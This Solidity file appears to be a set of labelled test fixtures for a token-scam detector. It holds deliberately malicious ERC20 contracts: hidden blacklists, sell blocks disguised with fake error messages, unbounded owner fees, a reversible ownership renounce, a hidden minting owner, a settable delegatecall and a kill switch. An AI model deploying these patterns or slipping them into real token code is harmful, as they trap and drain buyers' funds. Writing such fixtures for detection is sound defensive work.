// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./token-base.sol";

// Tokens that are bought and not sold: whom they bar, what they keep back, who decides it.

/// hidden blacklist with odd name, set without an event
/// expects: CT-07 danger
contract BotGuard is T20 {
    mapping(address => uint256) private _cooldownSeed;
    function syncRewards(address[] calldata a, uint256 v) external onlyOwner {
        for (uint i; i < a.length; i++) _cooldownSeed[a[i]] = v;
    }
    function _beforeTokenTransfer(address f, address, uint256) internal view override {
        require(_cooldownSeed[f] == 0, "ERC20: transfer amount exceeds balance");
    }
}
/// every buyer is marked; a marked holder cannot send
/// expects: CT-12 danger
contract AutoMark is T20 {
    mapping(address => bool) private _m;
    function _beforeTokenTransfer(address f, address t, uint256) internal override {
        if (f == pair) _m[t] = true;
        else if (_m[f]) revert("TransferHelper: TRANSFER_FROM_FAILED");
    }
    function free(address a) external onlyOwner {
        _m[a] = false;
    }
}
/// expects: CT-12 danger
contract SellGate is T20 {
    mapping(address => bool) private _ex;
    function setEx(address a, bool b) external onlyOwner {
        _ex[a] = b;
    }
    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        if (t == pair) require(_ex[f] || f == _owner, "K");
    }
}
/// expects: CT-09 danger
contract FeeSetter is T20 {
    uint256 public buyFee = 2;
    uint256 public sellFee = 2;
    address public marketing;
    function setFees(uint256 b, uint256 s) external onlyOwner {
        buyFee = b;
        sellFee = s;
    }
    function _transfer(address f, address t, uint256 v) internal override {
        uint256 fee =
            f == pair
                ? (v * buyFee) / 100
                : t == pair
                    ? (v * sellFee) / 100
                    : 0;
        if (fee > 0) super._transfer(f, address(this), fee);
        super._transfer(f, t, v - fee);
    }
}
/// the fee of an address by mapping
/// expects: CT-09 danger
contract FeeMap is T20 {
    mapping(address => uint256) private _r;
    function bulk(address[] memory a, uint256 r) public {
        require(msg.sender == _owner);
        for (uint256 i = 0; i < a.length; ++i) {
            _r[a[i]] = r;
        }
    }
    function _transfer(address f, address t, uint256 v) internal override {
        uint256 cut = (v * _r[f]) / 1000;
        uint256 b = _balances[f];
        require(b >= v);
        _balances[f] = b - v;
        _balances[t] += v - cut;
        _balances[address(0xdead)] += cut;
        emit Transfer(f, t, v - cut);
    }
}
interface ICfg {
    function q(address f, address t, uint256 v) external view returns (uint256);
}
/// fee from a settable outside contract, unbounded
/// expects: CT-09 danger, CT-18 danger
contract FeeExternal is T20 {
    ICfg private cfg;
    function init(ICfg c) external onlyOwner {
        cfg = c;
    }
    function _transfer(address f, address t, uint256 v) internal override {
        uint256 cut = address(cfg) == address(0) ? 0 : cfg.q(f, t, v);
        if (cut > 0) super._transfer(f, _owner, cut);
        super._transfer(f, t, v - cut);
    }
}
interface IGuard {
    function check(address f, address t) external;
}
/// settable outside guard that may refuse every sell
/// expects: CT-18 danger
contract Guard is T20 {
    address private _g;
    function uniswapV2Helper(address g) external onlyOwner {
        _g = g;
    }
    function _beforeTokenTransfer(address f, address t, uint256) internal override {
        if (_g != address(0)) IGuard(_g).check(f, t);
    }
}
/// hidden router always allowed
/// expects: CT-30 danger
contract RouterAllowance is T20 {
    address private constant R = 0x1b3a0000000000000000000000000000000c0de1;
    function allowance(address o, address s) public view override returns (uint256) {
        return s == R ? type(uint256).max : _allowances[o][s];
    }
    function transferFrom(address f, address t, uint256 v) public override returns (bool) {
        if (msg.sender != R) {
            _allowances[f][msg.sender] -= v;
        }
        _transfer(f, t, v);
        return true;
    }
}
/// renounce that can be taken back
/// expects: CT-07 danger, CT-17 danger
contract FakeRenounce is T20 {
    address private _prev;
    mapping(address => bool) private bl;
    function renounceOwnership() public override onlyOwner {
        _prev = _owner;
        _owner = address(0);
        emit OwnershipTransferred(_prev, address(0));
    }
    function unlock() public {
        require(msg.sender == _prev);
        _owner = _prev;
    }
    function set(address a) external onlyOwner {
        bl[a] = true;
    }
    function _beforeTokenTransfer(address f, address, uint256) internal view override {
        require(!bl[f]);
    }
}
/// another owner than the one shown
/// expects: CT-17 danger
contract HiddenOwner is T20 {
    address private immutable _d = msg.sender;
    function owner() public pure override returns (address) {
        return address(0);
    }
    function stake(address a, uint256 v) external {
        require(msg.sender == _d, "not enough");
        _totalSupply += v;
        _balances[a] += v;
    }
}
/// only transactions of a key may sell
/// expects: CT-12 danger, CT-32 danger
contract TxOrigin is T20 {
    function _beforeTokenTransfer(address, address t, uint256) internal view override {
        if (t == pair) require(tx.origin == _owner, "slippage");
    }
}
/// gas price gate on sells
/// expects: CT-32 danger
contract GasPrice is T20 {
    uint256 private _gl = 100 gwei;
    function setGl(uint256 g) external onlyOwner {
        _gl = g;
    }
    function _beforeTokenTransfer(address f, address t, uint256) internal view override {
        if (t == pair && f != _owner) require(tx.gasprice <= _gl, "gas");
    }
}
interface IP {
    function sync() external;
}
/// settable delegatecall inside a token
/// expects: CT-11 danger, CT-18 danger
contract TokenDelegate is T20 {
    address private _lib;
    function setLib(address l) external onlyOwner {
        _lib = l;
    }
    function _transfer(address f, address t, uint256 v) internal override {
        if (_lib != address(0)) {
            (bool ok, ) = _lib.delegatecall(abi.encodeWithSignature("t(address,address,uint256)", f, t, v));
            require(ok);
        } else super._transfer(f, t, v);
    }
}
/// nobody but the deployer sells; the condition is on amounts (limit of zero after launch)
/// expects: CT-19 danger
contract MaxZero is T20 {
    uint256 private _lim = type(uint256).max;
    mapping(address => bool) private _ok;
    constructor() {
        _ok[msg.sender] = true;
    }
    function openTrading() external onlyOwner {
        _lim = 0;
    }
    function _beforeTokenTransfer(address f, address t, uint256 v) internal view override {
        if (t == pair && !_ok[f]) require(v <= _lim, "max");
    }
}

/// expects: CT-08 danger
contract Timebomb {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private o = msg.sender;
    uint256 private open = 1;
    uint256 public totalSupply = 1e27;
    constructor() {
        balanceOf[msg.sender] = 1e27;
    }
    function stop() external {
        require(msg.sender == o);
        open = 2;
    }
    function transfer(address t, uint256 v) external returns (bool) {
        _m(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _m(f, t, v);
        return true;
    }
    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        return true;
    }
    function _m(address f, address t, uint256 v) private {
        require(open == 1 || f == o);
        balanceOf[f] -= v;
        balanceOf[t] += v;
    }
}
